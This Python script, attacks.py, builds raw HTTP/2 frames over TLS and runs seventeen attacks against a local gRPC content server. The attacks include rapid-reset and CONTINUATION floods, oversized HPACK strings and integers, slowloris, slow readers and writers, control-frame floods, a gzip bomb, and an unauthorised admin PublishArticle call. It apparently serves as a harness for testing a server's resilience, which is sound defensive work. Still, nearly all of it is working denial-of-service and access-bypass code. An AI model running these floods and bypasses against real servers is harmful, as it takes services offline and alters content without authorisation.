"""Attacks on an HTTP/2 server behind TLS, made of raw frames: attacks.py NAME PORT ADDRESS

ADDRESS is the attacker's. Proxies limit what an address may do, so honest clients and other attacks use others.

Each attack goes on until it has sent what it has to send, or for SECONDS. If the server closes a connection, it makes
another.
"""

import contextlib
import random
import select
import socket
import ssl
import sys
import time
import zlib

SECONDS = 4

# Types of frames.
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
UNKNOWN = 0x42

# Flags.
END_STREAM, ACK, END_HEADERS = 1, 1, 4

INITIAL_WINDOW_SIZE = 4  # a setting
CANCEL = (8).to_bytes(4, "big")

CREATE_COMMENT = "/content.v1.ContentService/CreateComment"
GET_ARTICLE = "/content.v1.ContentService/GetArticle"
LIST_ARTICLES = "/content.v1.ContentService/ListArticles"
PUBLISH_ARTICLE = "/content.v1.AdminService/PublishArticle"

FOREIGN_ARTICLE = "articles/by-an-attacker"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def integer(value, prefix_bits=7):
    """An integer in HPACK."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((value,))
    value -= limit
    encoded = bytearray((limit,))
    while value >= 128:
        encoded.append(value % 128 + 128)
        value //= 128
    encoded.append(value)
    return bytes(encoded)


def literal(name, value):
    """A header in HPACK, without indexing and without Huffman's code."""
    name, value = name.encode(), value.encode()
    return b"\x00" + integer(len(name)) + name + integer(len(value)) + value


def call_headers(path, **more):
    headers = literal(":method", "POST") + literal(":scheme", "https") + literal(":path", path)
    headers += literal(":authority", "localhost") + literal("content-type", "application/grpc") + literal("te", "trailers")
    for name, value in more.items():
        headers += literal(name.replace("_", "-"), value)
    return headers


def message(content, compressed=0):
    """A message of gRPC."""
    return bytes((compressed,)) + len(content).to_bytes(4, "big") + content


def bytes_field(number, content):
    """A field of a message of Protobuf, of less than 128 bytes."""
    return bytes((number << 3 | 2, len(content))) + content


class Connection:
    """A connection of HTTP/2, which raises OSError once the server has closed it."""

    def __init__(self, port, ack=True, window=65535, protocol="h2", preface=True):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols([protocol])
        plain = socket.create_connection(("127.0.0.1", port), timeout=SECONDS, source_address=(source, 0))
        try:
            self.socket = context.wrap_socket(plain)
        except OSError:
            plain.close()
            raise
        self.socket.setblocking(False)
        self.ack = ack
        self.received = bytearray()
        self.has_settings = False
        self.initial_window = 65535
        self.windows = {0: 65535}  # By stream; 0 is the connection.
        self.next_stream = 1
        if preface:
            self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
            self.send(frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2, "big") + window.to_bytes(4, "big")))
            self.wait_for_settings()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def wait_for_settings(self):
        end = time.monotonic() + SECONDS
        while not self.has_settings and time.monotonic() < end:
            select.select([self.socket], [], [], 0.1)
            self.receive()

    def send(self, data):
        rest = memoryview(data)
        while rest:
            self.receive()
            try:
                rest = rest[self.socket.send(rest[:65536]) :]
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                if not any(select.select([self.socket], [self.socket], [], SECONDS)):
                    raise TimeoutError("the server does not read") from None

    def receive(self):
        """Takes what has arrived."""
        with contextlib.suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError):
            while True:
                data = self.socket.recv(65536)
                if not data:
                    raise ConnectionResetError
                self.received += data
        answers = b""
        while len(self.received) >= 9:
            length = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + length:
                break
            kind, flags = self.received[3:5]
            stream = int.from_bytes(self.received[5:9], "big")
            payload = bytes(self.received[9 : 9 + length])
            del self.received[: 9 + length]
            answers += self.take(kind, flags, stream, payload)
        if answers:
            self.send(answers)

    def take(self, kind, flags, stream, payload):
        """Follows the server's windows, and answers its settings."""
        if kind == WINDOW_UPDATE:
            self.windows[stream] = self.window(stream) + int.from_bytes(payload, "big")
        if kind != SETTINGS or flags & ACK:
            return b""
        self.has_settings = True
        for start in range(0, len(payload), 6):
            if int.from_bytes(payload[start : start + 2], "big") == INITIAL_WINDOW_SIZE:
                self.initial_window = int.from_bytes(payload[start + 2 : start + 6], "big")
        return frame(SETTINGS, ACK, 0) if self.ack else b""

    def window(self, stream):
        return self.windows.get(stream, self.initial_window)

    def new_stream(self):
        stream = self.next_stream
        self.next_stream += 2
        return stream

    def call(self, path, content=None, **headers):
        """Begins a call, and sends its message unless there is none. Returns the stream."""
        stream = self.new_stream()
        data = frame(HEADERS, END_HEADERS, stream, call_headers(path, **headers))
        if content is not None:
            data += frame(DATA, END_STREAM, stream, content)
        self.send(data)
        return stream

    def send_data(self, stream, data):
        """Sends as much of the data as the windows allow; returns the rest."""
        size = min(len(data), 16384, self.window(0), self.window(stream))
        if size > 0:
            self.windows[0] -= size
            self.windows[stream] = self.window(stream) - size
            self.send(frame(DATA, 0, stream, data[:size]))
        return data[max(size, 0) :]

    def hold(self, seconds):
        """Keeps the connection open, and goes on receiving."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            select.select([self.socket], [], [], 0.1)
            self.receive()


def flood(port, count, send_one, **options):
    """Calls `send_one(connection)` until it has succeeded `count` times, on as many connections as that takes."""
    end = time.monotonic() + SECONDS
    sent = 0
    while sent < count and time.monotonic() < end:
        with contextlib.suppress(OSError), Connection(port, **options) as connection:
            while sent < count and time.monotonic() < end:
                send_one(connection)
                sent += 1
            connection.hold(0.5)
    return sent


def rapid_reset(port):
    """60,000 calls, each of which is cancelled at once."""
    headers, content = call_headers(GET_ARTICLE), message(b"\x0a\x1aarticles/read-all-the-time")

    def reset_100(connection):
        data = b""
        for _ in range(100):
            stream = connection.new_stream()
            data += frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, content)
            data += frame(RST_STREAM, 0, stream, CANCEL)
        connection.send(data)

    return flood(port, 600, reset_100) * 100


def continuation_flood(port):
    """25,000 frames of headers that do not end, of 7.7 KB."""
    headers = b"".join(literal(f"x-{n}", "v" * 70) for n in range(100))

    def send_100(connection):
        if connection.next_stream == 1:
            connection.send(frame(HEADERS, 0, connection.new_stream(), call_headers(GET_ARTICLE)))
        connection.send(frame(CONTINUATION, 0, 1, headers) * 100)

    return flood(port, 250, send_100) * 100


def open_100(connection):
    headers = call_headers(GET_ARTICLE)
    connection.send(b"".join(frame(HEADERS, END_HEADERS, connection.new_stream(), headers) for _ in range(100)))


def open_streams(port):
    return flood(port, 500, open_100) * 100


def open_streams_without_ack(port):
    return flood(port, 500, open_100, ack=False) * 100


def send_block(port, block):
    """Sends a block of headers in frames of 16 KiB."""

    def send(connection):
        stream = connection.new_stream()
        connection.send(frame(HEADERS, 0, stream, call_headers(GET_ARTICLE)))
        for start in range(0, len(block), 16384):
            connection.send(frame(CONTINUATION, 0, stream, block[start : start + 16384]))
        connection.send(frame(CONTINUATION, END_HEADERS, stream))

    return flood(port, 3, send)


def long_hpack_string(port):
    size = 16_000_000
    return send_block(port, b"\x00\x01x" + integer(size) + b"v" * size)


def long_hpack_integer(port):
    return send_block(port, b"\x7f" + b"\x80" * 5_000_000)


def large_metadata(port):
    return flood(port, 200, lambda connection: connection.call(GET_ARTICLE, message(b""), x_large="v" * 12_000))


def much_metadata(port):
    """12 KB in values that are small."""
    more = {f"x-{n}": "v" * 100 for n in range(120)}
    return flood(port, 200, lambda connection: connection.call(GET_ARTICLE, message(b""), **more))


def bad_binary_metadata(port):
    return flood(port, 200, lambda connection: connection.call(GET_ARTICLE, message(b""), x_bin="!!!!"))


def slow_writers(port):
    """60 requests of 4 MiB, of which the end does not arrive."""
    whole = message(bytes(4 << 20))[:-100_000]
    end = time.monotonic() + SECONDS
    with contextlib.ExitStack() as connections:
        writers = []
        for number in range(60):
            with contextlib.suppress(OSError):
                connection = connections.enter_context(Connection(port))
                path = CREATE_COMMENT if number % 2 else GET_ARTICLE
                writers.append([connection, connection.call(path), memoryview(whole)])
        while writers and time.monotonic() < end:
            for writer in list(writers):
                connection, stream, rest = writer
                try:
                    connection.receive()
                    writer[2] = connection.send_data(stream, rest)
                except OSError:
                    writers.remove(writer)
            time.sleep(0.001)
    return 60


def slow_readers(port):
    """300 calls with answers of 3 MiB that are not read."""
    request = message(bytes((0x08, 100, 0x20, 2)))  # page_size 100, view FULL
    end = time.monotonic() + SECONDS
    with contextlib.ExitStack() as connections:
        for _ in range(6):
            with contextlib.suppress(OSError):
                connection = connections.enter_context(Connection(port, window=0))
                for _ in range(50):
                    connection.call(LIST_ARTICLES, request)
        time.sleep(max(0, end - time.monotonic()))
    return 300


def control_frames(port):
    """50,000 of each kind of frame that asks for nothing."""
    floods = (
        frame(PING, 0, 0, bytes(8)),
        frame(SETTINGS, 0, 0),
        frame(PRIORITY, 0, 3, bytes(4) + b"\x10"),
        frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")),
        frame(UNKNOWN, 0, 0, b"unknown"),
        frame(RST_STREAM, 0, 1, CANCEL),
        frame(WINDOW_UPDATE, 0, 0, bytes(4)),
    )
    return sum(flood(port, 500, lambda connection, kind=kind: connection.send(kind * 100)) * 100 for kind in floods)


def empty_data(port):
    def send_100(connection):
        if connection.next_stream == 1:
            connection.call(GET_ARTICLE)
        connection.send(frame(DATA, 0, 1) * 100)

    return flood(port, 500, send_100) * 100


def slowloris(port):
    """300 connections that begin something and do not end it."""
    beginnings = (b"", b"PRI * HTTP/2.0\r\n", b"GET / HTTP/1.1\r\nHost: ")
    with contextlib.ExitStack() as connections:
        for number in range(300):
            with contextlib.suppress(OSError):
                beginning = beginnings[number % 3]
                connection = connections.enter_context(Connection(port, preface=not beginning))
                connection.send(beginning or frame(HEADERS, 0, 1, call_headers(GET_ARTICLE)))
        time.sleep(2)
    return 300


def gzip_bomb(port):
    """20 requests of 40 KB, each of which inflates to 40 MB."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = deflate.compress(bytes(40_000_000)) + deflate.flush()
    whole = message(bomb, compressed=1)

    def send(connection):
        stream = connection.call(GET_ARTICLE, grpc_encoding="gzip")
        rest = memoryview(whole)
        while rest:
            rest = connection.send_data(stream, rest)
            connection.receive()
        connection.send(frame(DATA, END_STREAM, stream))

    return flood(port, 20, send)


def foreign_publisher(port):
    """Publishes an article, without being an operator."""
    fields = {1: FOREIGN_ARTICLE, 2: "A title", 6: "en", 8: "A body."}
    request = bytes_field(1, b"".join(bytes_field(number, text.encode()) for number, text in fields.items()))
    return flood(port, 1, lambda connection: connection.call(PUBLISH_ARTICLE, message(request)))


def garbage(port):
    """HTTP/1.1, and random bytes and frames."""
    dice = random.Random(1)
    for number in range(200):
        with contextlib.suppress(OSError), Connection(
            port, protocol="http/1.1" if number % 2 else "h2", preface=number % 4 == 0
        ) as connection:
            if number % 4 == 1:
                connection.send(f"POST {GET_ARTICLE} HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\n".encode() + bytes(5))
            else:
                kind, flags, stream = dice.randrange(12), dice.randrange(256), dice.randrange(4)
                connection.send(frame(kind, flags, stream, dice.randbytes(dice.randrange(100))))
                connection.send(dice.randbytes(1000))
            connection.hold(0.01)
    return 200


ATTACKS = (
    rapid_reset,
    continuation_flood,
    open_streams,
    open_streams_without_ack,
    long_hpack_string,
    long_hpack_integer,
    large_metadata,
    much_metadata,
    bad_binary_metadata,
    slow_writers,
    slow_readers,
    control_frames,
    empty_data,
    slowloris,
    garbage,
    foreign_publisher,
    gzip_bomb,
)


if __name__ == "__main__":
    attacks = {attack.__name__: attack for attack in ATTACKS}
    source = sys.argv[3]
    print(attacks[sys.argv[1]](int(sys.argv[2])))
